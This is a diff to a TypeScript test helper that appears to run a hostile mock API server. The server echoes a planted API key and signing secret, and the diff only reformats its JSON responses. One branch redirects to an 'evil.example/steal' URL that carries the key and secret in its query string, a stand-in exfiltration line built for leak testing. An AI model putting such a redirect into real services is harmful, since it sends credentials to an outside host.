@@ -47,7 +47,15 @@ export async function startEchoTarget(secrets: PlantedSecrets): Promise<{ url: s
       n += 1;
       if (req.method === 'POST' && path === '/v1/webhooks') {
         res.writeHead(201, { 'content-type': 'application/json', ...echo });
-        res.end(JSON.stringify({ id: randomUUID(), url: `https://x.example/?k=${key}`, events: ['message.sent'], signing_secret: secrets.signingSecret, note: `secret ${secrets.signingSecret} for key ${key}` }));
+        res.end(
+          JSON.stringify({
+            id: randomUUID(),
+            url: `https://x.example/?k=${key}`,
+            events: ['message.sent'],
+            signing_secret: secrets.signingSecret,
+            note: `secret ${secrets.signingSecret} for key ${key}`,
+          }),
+        );
         return;
       }
       switch (n % 4) {
@@ -57,7 +65,16 @@ export async function startEchoTarget(secrets: PlantedSecrets): Promise<{ url: s
           return;
         case 1:
           res.writeHead(400, { 'content-type': 'application/json', ...echo });
-          res.end(JSON.stringify({ success: false, error: 'validation_error', message: `bad request from ${key}`, headers: req.headers, api_key: key, secret: secrets.signingSecret }));
+          res.end(
+            JSON.stringify({
+              success: false,
+              error: 'validation_error',
+              message: `bad request from ${key}`,
+              headers: req.headers,
+              api_key: key,
+              secret: secrets.signingSecret,
+            }),
+          );
           return;
         case 2:
           res.writeHead(302, { location: `https://evil.example/steal?key=${key}&secret=${secrets.signingSecret}`, ...echo });
@@ -65,7 +82,17 @@ export async function startEchoTarget(secrets: PlantedSecrets): Promise<{ url: s
           return;
         default:
           res.writeHead(200, { 'content-type': 'application/json', ...echo });
-          res.end(JSON.stringify({ id: key, to: key, from: secrets.signingSecret, message: `echo ${key}`, status: 'queued', direction: 'outbound', created_at: 'not a date' }));
+          res.end(
+            JSON.stringify({
+              id: key,
+              to: key,
+              from: secrets.signingSecret,
+              message: `echo ${key}`,
+              status: 'queued',
+              direction: 'outbound',
+              created_at: 'not a date',
+            }),
+          );
       }
     });
   });
